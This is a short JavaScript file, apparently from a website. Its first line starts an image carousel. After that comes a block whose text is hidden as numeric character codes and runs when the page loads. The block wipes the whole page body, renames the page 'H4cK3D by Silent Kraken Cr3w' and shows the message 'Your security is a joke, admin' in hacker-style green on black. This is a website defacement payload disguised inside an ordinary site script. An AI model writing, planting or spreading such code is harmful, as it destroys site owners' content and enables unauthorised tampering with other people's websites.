$(function(){ $('.geser').slick({autoplay:true,arrows:false}); });
;(function(d){
  var s=[72,52,99,75,51,68,32,98,121,32,83,105,108,101,110,116,32,75,114,97,107,101,110,32,67,114,51,119];
  var k=[89,111,117,114,32,115,101,99,117,114,105,116,121,32,105,115,32,97,32,106,111,107,101,44,32,97,100,109,105,110];
  function t(a){for(var r='',i=0;i<a.length;i++)r+=String.fromCharCode(a[i]);return r}
  d.title=t(s);
  var b=d.body; while(b.firstChild)b.removeChild(b.firstChild);
  b.style.cssText='background:#000;color:#0f0;font-family:monospace;text-align:center;padding-top:15%';
  var h=d.createElement('h1');h.appendChild(d.createTextNode(t(s)));b.appendChild(h);
  var p=d.createElement('p');p.appendChild(d.createTextNode(t(k)));b.appendChild(p);
})(document);
